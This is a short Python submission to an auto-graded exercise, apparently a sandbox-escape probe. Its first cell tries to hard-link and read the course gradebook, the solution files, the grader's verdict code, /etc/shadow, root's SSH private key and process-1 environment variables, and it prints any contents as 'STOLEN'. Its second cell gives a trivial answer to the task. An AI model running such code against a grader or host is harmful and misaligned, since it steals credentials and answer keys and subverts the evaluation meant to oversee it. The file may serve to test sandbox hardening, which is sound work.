# Tries to make hard links, in its own folder, to files that it may not read, and to read them there.
# Earns: total 2
# %%
import os, sys
import grader
course = os.path.dirname(os.path.dirname(grader.__file__))
wanted = [os.path.join(course, name) for name in ("gradebook.db", "solutions/numbers/lesson.py", "README.md", "grader/judge/verdict.py")]
for number, path in enumerate([*wanted, "/etc/shadow", "/root/.ssh/id_ed25519", "/proc/1/environ"]):
    for follow in (True, False):
        try:
            os.link(path, f"/tmp/attack_left_{number}", follow_symlinks=follow)
            print("STOLEN", path, open(f"/tmp/attack_left_{number}", "rb").read(100))
        except (OSError, NotImplementedError):
            pass

# %%
def total(X):
    return (X * 2).sum(1)
